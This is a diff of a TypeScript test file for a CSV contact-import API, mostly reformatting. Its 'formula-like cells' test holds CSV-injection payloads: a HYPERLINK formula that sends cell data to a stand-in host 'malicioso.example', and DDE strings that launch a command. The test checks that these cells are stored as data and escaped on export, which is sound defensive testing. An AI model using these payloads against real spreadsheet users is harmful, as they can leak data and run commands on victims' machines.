@@ -32,7 +32,20 @@ const randomBytes = (seed: number, length: number, alphabet?: number[]) => {
   return Buffer.from(Array.from({ length }, () => (alphabet ? alphabet[Math.floor(next() * alphabet.length)] : Math.floor(next() * 256))));
 };
 /** Bytes that look like text (printable, accents, the CSV's own ; " and line breaks): they pass the upload checks. */
-const TEXTISH = [...Array.from({ length: 0x5f }, (_, i) => 0x20 + i), ...Array.from({ length: 0x60 }, (_, i) => 0xa0 + i), 0x3b, 0x3b, 0x3b, 0x22, 0x0a, 0x0a, 0x0d, 0x30, 0x35, 0x39];
+const TEXTISH = [
+  ...Array.from({ length: 0x5f }, (_, i) => 0x20 + i),
+  ...Array.from({ length: 0x60 }, (_, i) => 0xa0 + i),
+  0x3b,
+  0x3b,
+  0x3b,
+  0x22,
+  0x0a,
+  0x0a,
+  0x0d,
+  0x30,
+  0x35,
+  0x39,
+];
 
 const HEADER = 'nome;telefone1;telefone2;email';
 let groupSeq = 0;
@@ -51,7 +64,12 @@ interface Outcome {
 /** Uploads a file as a new group, and waits for its import when one starts. */
 async function importFile(content: Buffer | string): Promise<Outcome> {
   const form = multipart({ name: `Robustez ${++groupSeq}`, kind: 'dialer' }, { filename: `arquivo-${groupSeq}.csv`, content });
-  const res = await stack.app.inject({ method: 'POST', url: '/v1/contact-groups', headers: { ...bearer(tenant.supervisorKey), ...form.headers }, payload: form.payload });
+  const res = await stack.app.inject({
+    method: 'POST',
+    url: '/v1/contact-groups',
+    headers: { ...bearer(tenant.supervisorKey), ...form.headers },
+    payload: form.payload,
+  });
   expect(res.statusCode).toBeLessThan(500);
   if (res.statusCode !== 202) {
     expect(res.statusCode).toBeGreaterThanOrEqual(400);
@@ -69,8 +87,16 @@ async function expectConsistent(outcome: Outcome) {
   expect(result?.state).toBe('completed');
   expect(result!.rowsRead).toBe(result!.rowsImported + result!.rowsRejected);
   const db = stack.database.db;
-  const contacts = await db.selectFrom('contacts').select((eb) => eb.fn.countAll<string>().as('n')).where('group_id', '=', outcome.groupId!).executeTakeFirstOrThrow();
-  const rejections = await db.selectFrom('import_rejections').select((eb) => eb.fn.countAll<string>().as('n')).where('import_id', '=', outcome.importId!).executeTakeFirstOrThrow();
+  const contacts = await db
+    .selectFrom('contacts')
+    .select((eb) => eb.fn.countAll<string>().as('n'))
+    .where('group_id', '=', outcome.groupId!)
+    .executeTakeFirstOrThrow();
+  const rejections = await db
+    .selectFrom('import_rejections')
+    .select((eb) => eb.fn.countAll<string>().as('n'))
+    .where('import_id', '=', outcome.importId!)
+    .executeTakeFirstOrThrow();
   expect(Number(contacts.n)).toBe(result!.rowsImported);
   expect(Number(rejections.n)).toBe(result!.rowsRejected);
   const csv = await get(`/v1/imports/${outcome.importId}/rejections.csv`);
@@ -107,7 +133,10 @@ function parseCsvLine(line: string): string[] {
 async function rejectedCsvRows(importId: string): Promise<string[]> {
   const res = await get(`/v1/imports/${importId}/rejections.csv`);
   expect(res.statusCode).toBe(200);
-  return res.body.replace(/^\uFEFF/, '').split('\r\n').slice(1, -1);
+  return res.body
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .slice(1, -1);
 }
 
 describe('random bytes', () => {
@@ -222,10 +251,10 @@ describe('mixed encodings', () => {
 });
 
 describe('formula-like cells', () => {
-  const formulas = ['=HYPERLINK("http://malicioso.example/?x="&A1;"Clique")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0'];
+  const formulas = ['=HYPERLINK("http://malicioso.example/?x="&A1;"Clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
   const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
 
-  it('are stored as data, and come out of the rejected-rows CSV prefixed with \'', async () => {
+  it("are stored as data, and come out of the rejected-rows CSV prefixed with '", async () => {
     const [p1, p2] = [`55489${String(30_000_000 + ++phoneSeq)}`, `55489${String(30_000_000 + ++phoneSeq)}`];
     const outcome = await importFile(
       [
